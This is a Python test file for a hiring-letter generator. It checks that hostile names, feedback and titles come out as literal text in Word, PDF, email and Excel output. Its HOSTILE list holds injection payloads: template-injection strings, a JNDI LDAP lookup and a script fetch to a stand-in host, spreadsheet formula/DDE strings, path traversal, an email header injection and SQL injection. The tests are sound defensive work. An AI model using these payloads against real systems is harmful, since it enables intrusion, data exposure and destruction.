"""Words from outside stay words: as a name, as what is told and as a title, nothing in them is obeyed."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import date
from email import message_from_bytes
from email.policy import default
from io import BytesIO
from itertools import count
from pathlib import Path

import pypdfium2
import pytest
from openpyxl import load_workbook

from flows.answers.facts import letter_fields, vacancy_facts
from flows.answers.feedback import Criterion, Feedback
from flows.closing import Closing
from flows.delivery.calls import ToCall, call_sheet
from flows.documents.interview_sheet import interview_sheet, sheet_row
from flows.documents.name_index import plain
from flows.documents.paper import Failed, Kind, Made, Order, Shelf
from flows.documents.read_back import pdf_pages, word_paragraphs
from flows.documents.shelf import file_stem
from flows.documents.workbook import with_more_rows, workbook_bytes
from flows.documents.workshop import Workshop
from flows.roster.applicant import Name
from flows.roster.names import clean
from flows.settings import Settings
from tests.conftest import ROOT, SAMPLE, TODAY, person

HOSTILE = [
    "{{ cycler.__init__.__globals__ }} Dam",
    "{% for each in names %}{{ each }} Friis",
    "{# Ida #} Ravn",
    "${jndi:ldap://host.test/Ib}",
    "<script>fetch('//host.test')</script>",
    '<img src="file:///etc/hostname"> Krogh',
    "<link rel=attachment href='file:///etc/hostname'>",
    "&lt;b&gt; &amp; Søn",
    '=HYPERLINK("http://host.test";"Åbn")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "../../../outside/Ib Holm",
    "..\\..\\C:\\CON",
    "%2e%2e%2fIb%00.docx",
    "Eva Holm\r\nBcc: other@host.test",
    "Eva <other@host.test>, Ib Dam, whose name goes on beyond the end of a line",
    "=?utf-8?q?Eva?= =?utf-8?b?SG9sbQ==?=",
    "Ib'); DROP TABLE events; --",
]

_NUMBERS = count(1)
RIGHT_TO_LEFT = re.compile("[\u0590-\u08ff]")  # in which order it is read off a page is the reader's choice
HEADERS = [
    "Auto-Submitted",
    "Content-Language",
    "Content-Type",
    "Date",
    "From",
    "MIME-Version",
    "Message-ID",
    "Reply-To",
    "Subject",
    "To",
    "X-Unsent",
]


@pytest.fixture(scope="module")
def closing(tmp_path_factory: pytest.TempPathFactory) -> Closing:
    closing = Closing.of(
        SAMPLE, Settings(inputs=SAMPLE.parent, outputs=tmp_path_factory.mktemp("hostile") / "outputs", today=TODAY, workers=1)
    )
    closing.plan()
    return closing


@pytest.fixture(scope="module")
def shop(closing: Closing) -> Workshop:
    assert closing._papers is not None
    return Workshop(closing._papers.work)


def order_for(closing: Closing, name: str, *, told: str = "Du kender området godt.", title: str = "") -> Order:
    """A letter after an interview to somebody of this name."""
    applicant = replace(person(), name=Name(name))
    prepared = Feedback("4711", criteria=(Criterion(told, told, told),), how_near="near", reason=told, apply_again="yes")
    facts = vacancy_facts(closing.vacancy, applicants=143, today=TODAY, hired=True)
    fields = letter_fields(applicant, facts, prepared) | ({"title": title} if title else {})
    id = f"47-{next(_NUMBERS)}"
    return Order(id, 2, Kind(Shelf.LETTERS, "after_interview", "da"), fields, file_stem(name, id), "eva@host.test")


def made_whole(closing: Closing, shop: Workshop, order: Order, words: str) -> None:
    """The paper is made; Word file, page and both mail parts carry the words; the mail goes to one address; nothing lies outside."""
    around = sorted(closing.out.parent.parent.rglob("*"))
    made = shop.make(order, None)
    assert isinstance(made, Made), made
    mail = message_from_bytes((closing.out / str(made.eml)).read_bytes(), policy=default)
    assert [each.addr_spec for each in mail["To"].addresses] == ["eva@host.test"]
    assert sorted(mail.keys()) == HEADERS
    wanted = "".join(plain(words).split())
    word = " ".join(word_paragraphs((closing.out / made.docx).read_bytes()))
    text = mail.get_body(("plain",))
    pdf = (closing.out / made.pdf).read_bytes()
    assert text is not None
    carriers = (word, text.get_content(), *(() if RIGHT_TO_LEFT.search(words) else [" ".join(pdf_pages(pdf))]))
    for carrier in carriers:
        assert wanted in "".join(plain(carrier).split()).replace("\ufffe", "-")
    with pypdfium2.PdfDocument(pdf) as document:
        assert document.count_attachments() == 0
    new = [path for path in sorted(closing.out.parent.parent.rglob("*")) if path not in around]
    assert {path.parent for path in new} <= {closing.out, closing.out / "letters", closing.out / "mail"}


@pytest.mark.parametrize("words", HOSTILE)
def test_a_hostile_name_is_a_name(closing: Closing, shop: Workshop, words: str) -> None:
    name = clean(words)
    made_whole(closing, shop, order_for(closing, name), name)


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_feedback_is_what_the_applicant_is_told(closing: Closing, shop: Workshop, words: str) -> None:
    told = words.replace("\r", "")
    made_whole(closing, shop, order_for(closing, "Åse Prøvesen", told=told), told)


@pytest.mark.parametrize("words", HOSTILE)
def test_a_hostile_title_is_a_title(closing: Closing, shop: Workshop, words: str) -> None:
    title = " ".join(words.split())
    order = order_for(closing, "Åse Prøvesen", title=title)
    made_whole(closing, shop, order, title)
    made = closing.out / "mail" / f"{order.stem}.eml"
    assert str(message_from_bytes(made.read_bytes(), policy=default)["Subject"]) == f"Svar på din ansøgning som {title}"


def test_no_workbook_takes_a_name_for_a_formula(tmp_path: Path) -> None:
    people = [replace(person(), name=Name(clean(words))) for words in HOSTILE]
    calls = [ToCall("4711", each.name.full, ("+45 20 00 00 00",), date(2026, 11, 9), f"notes/{each.name.full}.docx") for each in people]
    sheet, path = workbook_bytes(interview_sheet(people, "da")), tmp_path / "interviews.xlsx"
    path.write_bytes(sheet)
    rows = [sheet_row(each) for each in people]
    for book in (sheet, with_more_rows(path, rows), workbook_bytes(call_sheet(calls, "da", ROOT / "templates"))):
        cells = [cell for each in load_workbook(BytesIO(book)) for row in each.iter_rows() for cell in row]
        assert "f" not in {cell.data_type for cell in cells}
        assert {each.name.full for each in people} <= {cell.value for cell in cells}


@pytest.mark.parametrize(
    "name",
    ["İpek Çağlar Işık", "Phạm Thị Hằng", "Ярослав Шевчук", "ليلى الخطيب", "عبدالرحمن", "דוד בן-עמי", "אֱלִיעֶזֶר", "สุดา ศรีสุข", "किरण शर्मा", "রহিমা খাতুন", "ნანა ლომიძე", "Խաչատրյան"],
)  # fmt: skip
def test_a_name_in_another_script_is_carried_as_it_stands(closing: Closing, shop: Workshop, name: str) -> None:
    made_whole(closing, shop, order_for(closing, name), name)


def test_a_letter_no_font_has_is_a_fault_by_its_number(closing: Closing, shop: Workshop) -> None:
    failed = shop.make(order_for(closing, "Ida \ue000 Dam"), None)
    assert isinstance(failed, Failed)
    assert failed.reasons == ("glyph-missing:U+E000",)
